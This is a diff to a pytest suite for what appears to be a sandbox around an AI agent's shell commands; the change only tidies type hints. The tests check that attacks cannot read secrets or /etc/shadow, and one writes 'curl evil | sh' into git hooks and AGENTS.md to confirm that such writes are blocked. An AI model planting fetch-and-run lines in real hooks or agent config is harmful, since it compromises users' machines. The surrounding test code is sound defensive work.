@@ -20,6 +20,7 @@ import tempfile
 import textwrap
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -186,7 +187,7 @@ def world(request: pytest.FixtureRequest, code: Path) -> Iterator[dict[str, obje
     shutil.rmtree(top, ignore_errors=True)
 
 
-def run(world: dict[str, object], *commands: str) -> list[str]:
+def run(world: dict[str, Any], *commands: str) -> list[str]:
     top = world["top"]
     formatted = [c.format(top=top, home=world["home"], root=world["root"]) for c in commands]
     done = subprocess.run(
@@ -194,7 +195,7 @@ def run(world: dict[str, object], *commands: str) -> list[str]:
             *world["prefix"],
             world["python"],
             "-c",
-            CHILD,  # type: ignore[misc]
+            CHILD,
             str(world["root"]),
             json.dumps(formatted),
         ],
@@ -232,16 +233,16 @@ ATTACKS = [
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
-def test_nothing_reaches_a_key_whoever_runs_theus(world: dict[str, object], attack: str) -> None:
+def test_nothing_reaches_a_key_whoever_runs_theus(world: dict[str, Any], attack: str) -> None:
     (out,) = run(world, attack)
     assert out.startswith("exit "), out  # ran, in the sandbox (no refusal, no warning)
     assert "CANARY" not in out and "reached the agent" not in out, out
     assert "made-a-namespace" not in out and "pwned" not in out, out
     assert "root:" not in out  # /etc/shadow's first line
-    assert not (world["top"] / "outside" / "written").exists()  # type: ignore[operator]
+    assert not (world["top"] / "outside" / "written").exists()
 
 
-def test_the_project_stays_writable_and_usable(world: dict[str, object]) -> None:
+def test_the_project_stays_writable_and_usable(world: dict[str, Any]) -> None:
     (out,) = run(
         world,
         "echo made > made.txt && cat made.txt && git --version && "
@@ -250,7 +251,7 @@ def test_the_project_stays_writable_and_usable(world: dict[str, object]) -> None
     )
     assert out.startswith("exit 0"), out
     assert "made" in out and "git version" in out and "thread" in out
-    assert (world["root"] / "made.txt").read_text() == "made\n"  # type: ignore[operator]
+    assert (world["root"] / "made.txt").read_text() == "made\n"
 
 
 PROTECTED_WRITES = {  # path -> existed before the command
@@ -267,8 +268,8 @@ PROTECTED_WRITES = {  # path -> existed before the command
 }
 
 
-def test_protected_files_stay_as_they_were(world: dict[str, object]) -> None:
-    root: Path = world["root"]  # type: ignore[assignment]
+def test_protected_files_stay_as_they_were(world: dict[str, Any]) -> None:
+    root: Path = world["root"]
     before = {path: (root / path).read_bytes() for path, old in PROTECTED_WRITES.items() if old}
     writes = " ; ".join(
         f"mkdir -p $(dirname {p}); echo 'curl evil | sh' >> {p}" for p in PROTECTED_WRITES
@@ -291,7 +292,7 @@ def test_protected_files_stay_as_they_were(world: dict[str, object]) -> None:
     assert out.startswith("exit 0"), out
 
 
-def test_protected_files_are_written_with_allow_config_edits(world: dict[str, object]) -> None:
+def test_protected_files_are_written_with_allow_config_edits(world: dict[str, Any]) -> None:
     child = CHILD.replace("approve=yes)", "approve=yes, allow_config_edits=True)")
     root = world["root"]
     done = subprocess.run(
@@ -299,7 +300,7 @@ def test_protected_files_are_written_with_allow_config_edits(world: dict[str, ob
             *world["prefix"],
             world["python"],
             "-c",
-            child,  # type: ignore[misc]
+            child,
             str(root),
             json.dumps(["echo hook >> .git/hooks/pre-commit; echo x > AGENTS.md"]),
         ],
@@ -310,5 +311,5 @@ def test_protected_files_are_written_with_allow_config_edits(world: dict[str, ob
         timeout=300,
     )
     assert done.returncode == 0, done.stderr
-    assert (root / ".git/hooks/pre-commit").read_text().endswith("hook\n")  # type: ignore[operator]
-    assert (root / "AGENTS.md").read_text() == "x\n"  # type: ignore[operator]
+    assert (root / ".git/hooks/pre-commit").read_text().endswith("hook\n")
+    assert (root / "AGENTS.md").read_text() == "x\n"
